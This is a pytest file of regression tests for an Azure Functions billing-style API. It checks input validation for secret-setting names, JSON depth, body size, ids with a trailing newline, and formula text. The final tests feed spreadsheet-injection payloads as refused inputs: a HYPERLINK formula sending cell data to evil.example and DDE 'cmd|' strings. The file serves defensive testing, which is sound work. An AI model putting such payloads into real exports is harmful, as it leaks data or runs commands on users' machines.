"""Issue 14, the HTTP edges through the real handlers (Azurite behind them): each test fails on the code before
the fix. #2 (input side): internal ids and PO numbers; #8: body size and nesting depth; #9: ids with a trailing
newline; #10: clientSecretSetting; #11: the first call of a new deployment."""

from __future__ import annotations

import json

import pytest

from functions.http_support import MAX_BODY_BYTES
from shared.core.boundaries import MAX_JSON_DEPTH
from tests.conftest import call, problem

TENANT = "11111111-2222-4333-8444-555555555555"
CLIENT = "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee"
SUBSCRIPTION = "bbbbbbbb-cccc-4ddd-8eee-ffffffffffff"
FILE = "cccccccc-dddd-4eee-8fff-000000000000"


def _tenant_body(setting: str = "PC_SECRET_X") -> dict:
    return {"displayName": "T", "clientId": CLIENT, "clientSecretSetting": setting}


@pytest.fixture
def tenant(functions, ctx) -> str:
    assert call(functions, "put_tenant", "PUT", route={"tenantId": TENANT}, body=_tenant_body()).status_code == 201
    return TENANT


def _field(resp) -> list[str | None]:
    return [e.get("field") for e in problem(resp).get("errors", [])]


# ---- #11 -------------------------------------------------------------------------------------------------------

def test_a_new_deployment_lists_no_tenants_with_a_200(functions, ctx) -> None:
    """Before any tenant exists, a partner admin's GET /api/tenants is an empty list (it was a 500: "route
    list_tenants answered without checking its scope")."""
    resp = call(functions, "list_tenants", "GET")
    assert resp.status_code == 200, resp.get_body()
    assert json.loads(resp.get_body()) == {"items": []}


# ---- #10 -------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("setting", ["AzureWebJobsStorage", "TOKEN_SIGNING_KEY", "APPLICATIONINSIGHTS_CONNECTION_"
                                                                                 "STRING", "PC_SECRET_", "pc_secret_x"])
def test_a_tenant_may_name_only_a_pc_secret_setting(functions, ctx, setting: str) -> None:
    resp = call(functions, "put_tenant", "PUT", route={"tenantId": TENANT}, body=_tenant_body(setting))
    assert resp.status_code == 400
    assert _field(resp) == ["clientSecretSetting"]
    assert "PC_SECRET_" in problem(resp)["detail"]
    assert "not set" not in problem(resp)["detail"]  # nothing about which settings exist
    assert call(functions, "get_tenant", "GET", route={"tenantId": TENANT}).status_code == 404  # nothing stored


def test_a_pc_secret_setting_is_accepted_whether_or_not_it_is_set(functions, ctx) -> None:
    resp = call(functions, "put_tenant", "PUT", route={"tenantId": TENANT}, body=_tenant_body("PC_SECRET_NOT_SET"))
    assert resp.status_code == 201  # the answer does not depend on the environment
    assert json.loads(resp.get_body())["clientSecretSetting"] == "PC_SECRET_NOT_SET"


# ---- #8 --------------------------------------------------------------------------------------------------------

def test_deeply_nested_json_is_a_400_not_a_500(functions, tenant) -> None:
    deep = b'{"displayName": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    for name, route in (("put_tenant", {"tenantId": TENANT}), ("create_margin_rule", {"tenantId": TENANT}),
                        ("put_principal", {"tenantId": TENANT, "objectId": CLIENT})):
        resp = call(functions, name, "PUT", route=route, raw=deep)
        assert resp.status_code == 400, (name, resp.status_code, resp.get_body()[:200])
        assert _field(resp) == ["body"] and str(MAX_JSON_DEPTH) in problem(resp)["detail"]


def test_nesting_up_to_the_cap_is_parsed(functions, tenant) -> None:
    """At the cap the body is parsed and validated as usual (here: a list where a string belongs)."""
    body = b'{"displayName": ' + b"[" * (MAX_JSON_DEPTH - 1) + b"]" * (MAX_JSON_DEPTH - 1) + b"}"
    resp = call(functions, "put_tenant", "PUT", route={"tenantId": TENANT}, raw=body)
    assert resp.status_code == 400 and "displayName" in _field(resp)
    over = b'{"displayName": ' + b"[" * MAX_JSON_DEPTH + b"]" * MAX_JSON_DEPTH + b"}"
    assert _field(call(functions, "put_tenant", "PUT", route={"tenantId": TENANT}, raw=over)) == ["body"]


def test_an_oversized_body_is_a_413_before_parsing(functions, tenant) -> None:
    big = b'{"displayName": "' + b"x" * MAX_BODY_BYTES + b'"}'
    resp = call(functions, "put_tenant", "PUT", route={"tenantId": TENANT}, raw=big)
    assert resp.status_code == 413 and problem(resp)["status"] == 413


# ---- #9 --------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name,route,params,field", [
    ("get_tenant", {"tenantId": TENANT + "\n"}, {}, "tenantId"),
    ("get_file", {"tenantId": TENANT, "fileId": FILE + "\n"}, {}, "fileId"),
    ("get_principal", {"tenantId": TENANT, "objectId": CLIENT + "\n"}, {}, "objectId"),
    ("get_reseller_identifier", {"tenantId": TENANT, "resellerMpnId": "1234567\n"}, {}, "resellerMpnId"),
    ("get_subscription_identifier", {"tenantId": TENANT, "subscriptionId": SUBSCRIPTION + "\n"}, {},
     "subscriptionId"),
    ("list_files", {"tenantId": TENANT}, {"invoiceId": "G000000001\n"}, "invoiceId"),
    ("get_charges", {"tenantId": TENANT, "invoiceId": "G000000001\n"}, {"type": "onetime"}, "invoiceId"),
    ("download_file_version", {"tenantId": TENANT, "fileId": FILE, "version": "1\n"}, {}, "version"),
    ("download_file_version", {"tenantId": TENANT, "fileId": FILE, "version": "²"}, {}, "version"),
    ("get_calendar", {"tenantId": TENANT}, {"months": "²"}, "months"),
    ("get_charges", {"tenantId": TENANT, "invoiceId": "G000000001"}, {"type": "onetime", "pageSize": "9" * 5000},
     "pageSize"),
])
def test_ids_with_a_trailing_newline_are_refused(functions, tenant, name, route, params, field) -> None:
    """`re.match("^…$")` let "1234567\\n" through (and "²".isdigit() is True while int("²") fails): each is a
    400 naming the parameter, never a lookup with the odd id and never a 500."""
    resp = call(functions, name, "GET", route=route, params=params)
    assert resp.status_code == 400, (name, resp.status_code, resp.get_body()[:300])
    assert _field(resp) == [field]


# ---- #2, the input side ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("body,field", [
    ({"internalId": '=HYPERLINK("http://evil.example/?"&A1,"Click")'}, "internalId"),
    ({"internalId": "SUB-1", "poNumber": "@SUM(1+1)*cmd|' /C calc'!A0"}, "poNumber"),
    ({"poNumber": "-2+3"}, "poNumber"),
    ({"poNumber": "PO\t=1"}, "poNumber"),
])
def test_internal_ids_and_po_numbers_refuse_formula_text(functions, tenant, body: dict, field: str) -> None:
    route = {"tenantId": tenant, "subscriptionId": SUBSCRIPTION}
    resp = call(functions, "put_subscription_identifier", "PUT", route=route, body=body)
    assert resp.status_code == 400 and _field(resp) == [field]
    assert call(functions, "get_subscription_identifier", "GET", route=route).status_code == 404
    ok = call(functions, "put_subscription_identifier", "PUT", route=route,
              body={"internalId": "SUB-1", "poNumber": "PO 2026/77 (Q4)"})
    assert ok.status_code == 200, ok.get_body()


def test_the_csv_import_refuses_formula_text_row_by_row(functions, tenant) -> None:
    text = ("kind,id,internalId,name,poNumber\n"
            "reseller,1234567,=cmd|' /C calc'!A0,Fabrikam,\n"
            f"subscription,{SUBSCRIPTION},SUB-1,,@SUM(1+1)\n"
            f"customer,{CLIENT},C-1,,\n")
    resp = call(functions, "import_identifiers_csv", "POST", route={"tenantId": tenant}, raw=text.encode())
    assert resp.status_code == 400
    assert [(e["line"], e["field"]) for e in problem(resp)["errors"]] == [(2, "internalId"), (3, "poNumber")]
    listed = json.loads(call(functions, "list_identifiers", "GET", route={"tenantId": tenant}).get_body())
    assert listed["items"] == []  # all or nothing
